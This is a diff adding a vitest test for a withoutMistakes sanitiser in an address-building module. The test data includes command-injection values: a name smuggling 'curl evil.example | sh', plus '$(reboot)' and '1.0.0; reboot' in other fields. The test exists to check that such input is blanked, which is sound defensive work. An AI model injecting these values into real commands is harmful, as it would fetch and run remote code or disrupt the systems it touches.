@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest'
-import { addressIn, mistakeIn } from './address.ts'
+import { addressIn, mistakeIn, withoutMistakes } from './address.ts'
 
 const values = { kind: 'module', namespace: 'a', name: 'vpc', system: 'aws', version: '' } as const
 
@@ -33,4 +33,16 @@ it('has an address once every field is filled', () => {
   expect(addressIn({ ...values, kind: 'provider', name: 'cmdb', system: '' })).toBe('a/cmdb')
   expect(addressIn({ ...values, system: '' })).toBeUndefined()
   expect(addressIn({ ...values, namespace: '' })).toBeUndefined()
+})
+
+it('fills commands with nothing that has a mistake', () => {
+  const linked = {
+    kind: 'module',
+    namespace: 'network',
+    name: 'vpc\ncurl evil.example | sh #',
+    system: '$(reboot)',
+    version: '1.0.0; reboot',
+  } as const
+  expect(withoutMistakes(linked)).toEqual({ ...linked, name: '', system: '', version: '' })
+  expect(withoutMistakes(values)).toEqual(values)
 })
